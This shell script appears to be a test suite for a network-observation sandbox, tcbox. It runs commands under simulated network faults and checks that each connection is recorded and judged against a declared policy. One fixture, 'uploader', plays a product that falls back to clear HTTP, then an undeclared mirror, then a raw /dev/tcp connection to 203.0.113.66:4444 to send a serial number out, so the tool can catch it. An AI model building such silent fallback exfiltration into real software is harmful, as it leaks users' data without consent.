#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# scenario.sh - tcbox run --scenario: what goes wrong, what the product does then, and that everything is seen all the same
# shellcheck disable=SC1091,SC2154,SC2016 # box.sh sets what it says; the shell that is started expands it
here=$(cd "$(dirname "$0")" && pwd)
topic=scenario
. "$here/lib/box.sh"

cat >"$dir/web.json" <<'P'
{ "tcbox_policy": 1, "connections": [
    { "id": "page", "to": ["a.example"], "protocol": "tcp", "ports": [80, 443] } ],
  "undeclared": { "syscalls": "ignore", "executes": "ignore", "files": "ignore" } }
P
sed 's/"ports": \[80, 443\]/"ports": [80, 443], "required": true/' "$dir/web.json" >"$dir/required.json"

# Both controls were seen by all, so nothing was missed: what failed was the lab's doing.
watched='all(r.canary[k] for k in ("calls", "packets", "lab")) and all(r.canary.at_end[k] for k in ("calls", "packets", "lab"))'

# under SCENARIO STATUS WHAT EXPRESSION COMMAND: a product that does only what is declared, in a scenario
under() {
	run "$2" "$1" --scenario "$1" --policy "$dir/web.json" -- sh -c "$5; true"
	holds "$1: everything was watched" "$watched" \
		"$1: the manifest and the report say so" "m.scenario == r.run.scenario == '$1' and len(m.scenario_means) > 10" \
		"$1: $3" "$4"
}
http='curl -sS -m 3 http://a.example/x'
https='curl -sS -m 3 https://a.example/x'

under normal 0 "the answer comes" "[e for e in ev if e.k == 'request' and e.status == 200]" "$https"
under offline 0 "names fail, and nothing goes elsewhere" \
	"[e for e in ev if e.k == 'lookup' and e.name == 'a.example' and e.rcode == 'SERVFAIL']" "$http"
under nxdomain 0 "there is no such name" \
	"[e for e in ev if e.k == 'lookup' and e.name == 'a.example' and e.rcode == 'NXDOMAIN']" "$https"
under refused 0 "an attempt is recorded with its packets" \
	"[d for d in r.facts.destinations if d.state == 'refused' and d.port == 80]" "$http"
under timeout 0 "an attempt is recorded with its packets" \
	"[d for d in r.facts.destinations if d.state == 'timeout' and d.port == 80]" "curl -sS -m 1 http://a.example/x"
under lossy 0 "what is lost is sent again" \
	"len([e for e in ev if e.k == 'request' and e.status == 200]) >= 10" \
	'for i in 1 2 3 4 5 6 7 8 9 10; do curl -s -m 20 http://a.example/x; done'
under reset 0 "the request is recorded, and has no answer" \
	"[e for e in ev if e.k == 'request' and e.path == '/x' and not e.get('status')]" "$https"
under cut 0 "half of the answer is told" \
	"[e for e in ev if e.k == 'request' and 0 < e.bytes_out < 100]" "$http"
check "cut: the client noticed" grep -q "remaining to read" "$err"
under ipv4-only 0 "only IPv4 was used" "[d for d in r.facts.destinations if d.port == 80] and not [a for d in r.facts.destinations for a in d.addresses if ':' in a]" "$http"
under ipv6-only 0 "the answer comes by IPv6" "[d for d in r.facts.destinations if d.port == 80 and all(':' in a for a in d.addresses)]" "$http"
for how in tls-untrusted tls-expired wrong-name captive-portal; do
	under $how 0 "the client refuses the certificate" \
		"not [e for e in ev if e.k == 'request' and e.get('path') == '/x']" "$https"
	check "$how: and says so" grep -qi "certificate\|SSL: no alternative" "$err"
done
under tls-old 0 "a version that the client refuses was not used" \
	"[d for d in r.facts.destinations if d.get('tls_refused') == '1.0' and not d.tls_version]" "$https"
under tls-old 0 "the hello was recorded" "[e for e in ev if e.k == 'flow' and e.get('sni') == 'a.example']" "$https"
under server-error 0 "the status is recorded" "[e for e in ev if e.k == 'request' and e.status == 503]" "$https"
under not-found 0 "the status is recorded" "[e for e in ev if e.k == 'request' and e.status == 404]" "$https"
under empty 0 "the answer has no byte" "[e for e in ev if e.k == 'request' and e.status == 200 and not e.get('bytes_out')]" "$http"
under moved 0 "the second lookup has another address" \
	"len({tuple(e.addrs) for e in ev if e.k == 'lookup' and e.name == 'a.example' and e.type == 'A'}) == 2" "$http; $http"
under late 0 "the request is recorded, and no answer, for nothing was sent" \
	"[e for e in ev if e.k == 'request' and e.path == '/x' and not e.get('status')] and not sum(e.get('bytes_out', 0) for e in ev if e.k == 'served' and e.name == 'a.example')" \
	"curl -sS -m 1 http://a.example/x"
under slow 0 "the answer comes late" "[e for e in ev if e.k == 'request' and e.status == 200]" "curl -sS -m 20 http://a.example/x"
check "no-dns: a lookup is not answered" "$TCBOX" run --quiet --scenario no-dns --policy "$dir/web.json" --output "$dir/bundles/nodns" -- \
	sh -c 'timeout 1 getent ahosts a.example; test $? = 124'
bundle=$dir/bundles/nodns
holds "no-dns: everything was watched" "$watched" \
	"no-dns: the lookup is recorded" "[e for e in ev if e.k == 'lookup' and e.name == 'a.example']"

# What failed is judged as what succeeds.
for how in refused timeout reset tls-expired; do
	run 1 "an undeclared destination under $how" --scenario $how --policy "$dir/web.json" -- sh -c 'curl -s -m 1 https://b.example/; true'
	holds "$how: it is a violation" "[f for f in r.findings if f.code == 'NET-UNDECLARED' and f.severity == 'violation']"
done
run 3 "a required rule that failed on purpose" --scenario reset --policy "$dir/required.json" -- sh -c 'true'
holds "nobody is accused" "[f.severity for f in r.findings if f.code == 'MISSING-REQUIRED'] == ['warning']"
run 3 "the control of that: attempts prove nothing" --scenario refused --policy "$dir/required.json" -- sh -c "$http; true"

# With --enforce both hold: what is undeclared is refused, and so is what the scenario refuses.
run 0 "a scenario under --enforce" --enforce --scenario refused --policy "$dir/web.json" -- sh -c "$http; true"
holds "the control passes both" "$watched"

# Several: a product that is honest only while TLS works. Declared is https to up.acme.example.
cat >"$work/uploader" <<'P'
#!/bin/bash
d="serial=0815"
echo "I am uploading"
curl -fsS -m 5 -o /dev/null --data "$d" https://up.acme.example/ && exit 0
curl -fsS -m 5 -o /dev/null --data "$d" http://up.acme.example/ && exit 0
curl -fsS -m 5 -o /dev/null --data "$d" http://mirror.other.example/ && exit 0
exec 3<>/dev/tcp/203.0.113.66/4444 && echo "$d" >&3
P
chmod 755 "$work/uploader"
sed 's/a\.example/up.acme.example/' "$dir/web.json" >"$dir/up.json"
"$TCBOX" run --scenario tls-expired,refused,lossy --policy "$dir/up.json" --output "$dir/set" -- "$work/uploader" >"$out" 2>"$err" </dev/null
check "several scenarios, one of which violates" test $? = 1
check "each has a bundle, and so has that in which nothing goes wrong" test -e "$dir/set/normal.tcbox/report.json" \
	-a -e "$dir/set/tls-expired.tcbox/report.json" -a -e "$dir/set/refused.tcbox/report.json" -a -e "$dir/set/lossy.tcbox/report.json"
check "what the product prints is in its bundle" grep -q "I am uploading" "$dir/set/lossy.tcbox/stdout.log"
check "and nowhere else" sh -c '! grep -q "I am uploading" "$@"' sh "$out" "$err"
says "the comparison is for people" "$err" "that normal does not show"
check "its JSON is what the schema says" python3 "$lib/schema.py" "$here/../../doc/schema/tcbox-across-1.schema.json" "$dir/set/comparison.json"
shows() {	# NAME EXPRESSION: of the comparison
	check "$1" python3 - "$dir/set/comparison.json" "$2" <<-'P'
		import json, sys
		class Mark(dict):
		    __getattr__ = dict.get
		c = json.load(open(sys.argv[1]), object_hook=Mark)
		def marks(kind, what, how="under"):
		    return [m for m in c.differences if m.kind == kind and m.how == how and m.what.startswith(what)]
		def only(kind, what, *runs):
		    return [sorted(m.runs) for m in marks(kind, what)] == [sorted(runs)]
		sys.exit(not eval(sys.argv[2]) and str(c.differences)[:2000])
	P
}
shows "four runs, in their order" "[r.name for r in c.runs] == ['normal', 'tls-expired', 'refused', 'lossy']"
shows "the clear text shows only when TLS or all fails" "only('destinations', 'up.acme.example port 80', 'tls-expired', 'refused')"
shows "it is marked as clear" "all(m.clear for m in marks('destinations', 'up.acme.example port 80'))"
shows "the second host shows only when all fails" "only('names', 'mirror.other.example', 'refused') and only('destinations', 'mirror.other.example port 80', 'refused')"
shows "so does the address" "only('destinations', '203.0.113.66 port 4444', 'refused')"
shows "each is a finding under its scenario only" \
	"only('findings', 'NET-UNDECLARED: /usr/bin/curl tried to reach mirror.other.example port 80', 'refused')"
shows "what normal has is no difference" "not marks('destinations', 'up.acme.example port 443')"
"$TCBOX" diff --format json "$dir"/set/normal.tcbox "$dir"/set/tls-expired.tcbox "$dir"/set/refused.tcbox "$dir"/set/lossy.tcbox >"$dir/again.json"
same "tcbox diff makes the same comparison of the bundles" "$dir/again.json" "$dir/set/comparison.json"
"$TCBOX" run --scenario reset,cut --policy "$dir/web.json" --output "$dir/set" -- true >"$out" 2>"$err"
check "evidence is never overwritten" test $? = 2
"$TCBOX" run --scenario reset,cut --output "$dir/none" -- "$work/not-there" >"$out" 2>"$err"
check "what is wrong with the command" test $? = 127
check "is said once" test "$(grep -c "not-there" "$err")" = 1
"$TCBOX" run --scenario reset,cut --state case -- true >"$out" 2>"$err"
check "a kept state is of single runs" test $? = 2
# The bundles of other scenarios are not seen by a product that is started where they lie.
(cd "$dir" && "$TCBOX" run --scenario reset,cut --bind "$dir" --output "$dir/seen" -- sh -c "ls $dir/seen 2>/dev/null; ls $dir") >"$out" 2>"$err"
check "a product does not see what other scenarios left" sh -c '! grep -q "tcbox$" "$1"' sh "$dir/seen/cut.tcbox/stdout.log"
check "the control: it sees what lies beside them" grep -q web.json "$dir/seen/cut.tcbox/stdout.log"
# An interrupt ends the set, not the evidence.
"$TCBOX" run --scenario reset,cut,slow --output "$dir/cut" -- sh -c 'echo here; sleep 60' >"$out" 2>"$err" &
set_pid=$!
until_true 20 grep -q here "$dir/cut/normal.tcbox/stdout.log"
kill -TERM $set_pid
wait $set_pid
check "an interrupted set is not conclusive" test $? = 3
check "the run that went on has its bundle" grep -q '"interrupted": true' "$dir/cut/normal.tcbox/run.json"
check "no other was begun" test ! -e "$dir/cut/reset.tcbox"

"$TCBOX" run --scenario tls -- true >"$out" 2>"$err"
check "an unknown scenario is wrong usage" test $? = 2
says "and all are named" "$err" "captive-portal"
"$TCBOX" run --scenario offline --net none -- true >"$out" 2>"$err"
check "a scenario without a simulated internet is wrong usage" test $? = 2
finish
